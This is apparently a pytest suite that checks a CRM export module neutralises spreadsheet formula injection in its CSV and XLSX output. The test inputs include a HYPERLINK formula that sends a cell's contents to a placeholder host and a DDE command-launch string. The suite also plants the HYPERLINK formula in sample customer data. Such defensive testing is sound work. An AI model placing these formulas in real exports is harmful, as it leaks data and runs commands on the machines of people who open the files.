"""Formula injection (OWASP CSV injection): exports keep formula-looking text inert."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from gcrm.security.exports import csv_bytes, csv_text, inert_text, neutralise, xlsx_bytes

ATTACKS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
           "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_that_start_a_formula_get_an_apostrophe(text: str) -> None:
    df = pd.DataFrame({"name": [text, "王伟"], "kwh": [-2.5, 3.0]})
    rows = list(csv.reader(io.StringIO(csv_text(df), newline="")))
    assert rows[1] == ["'" + text.replace("\r", "\n"), "-2.5"]  # negative numbers stay numbers
    assert rows[2] == ["王伟", "3.0"]


def test_csv_bytes_carry_a_bom_for_excel() -> None:
    assert csv_bytes(pd.DataFrame({"a": ["=1"]})).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("text", ATTACKS)
def test_xlsx_cells_are_strings_not_formulas(text: str) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pd.DataFrame({"name": [text]}))))
    cell = wb.active.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML stores a carriage return as a newline


def test_neutralise_counts_formulas() -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["A2"] = 5
    assert wb.active["A1"].data_type == "f"
    assert neutralise(wb) == 1 and wb.active["A1"].data_type == "s"


def test_plain_values_pass_unchanged() -> None:
    assert inert_text("通化市") == "通化市" and inert_text(None) is None and inert_text(7) == 7


def test_area_report_xlsx_has_no_live_formula(example_dir, tmp_path) -> None:
    """A customer named like a formula reaches the report's top-customer sheet as text."""
    from click.testing import CliRunner

    from etl.pipeline import load
    from gcrm.cli import cli

    path = example_dir / "customers.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "王伟", '=HYPERLINK("http://x.invalid/?"&A1;"click")'), encoding="utf-8")
    db = tmp_path / "w.duckdb"
    load(example_dir, db, quiet=True, report_dir=tmp_path / "report")
    out = tmp_path / "r.xlsx"
    r = CliRunner().invoke(cli, ["report", "--db", str(db), "--region", "C1", "--period",
                                 "2025", "--format", "xlsx", "--out", str(out)])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
